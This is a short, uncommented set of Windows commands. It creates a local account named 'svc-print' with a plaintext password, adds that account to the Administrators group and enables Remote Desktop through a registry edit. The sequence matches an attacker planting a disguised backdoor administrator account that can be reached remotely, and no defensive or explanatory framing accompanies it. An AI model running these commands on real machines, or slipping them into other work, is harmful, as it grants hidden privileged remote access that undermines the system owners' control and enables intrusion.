net user svc-print Pr1nt-Spool-2024! /add
net localgroup Administrators svc-print /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
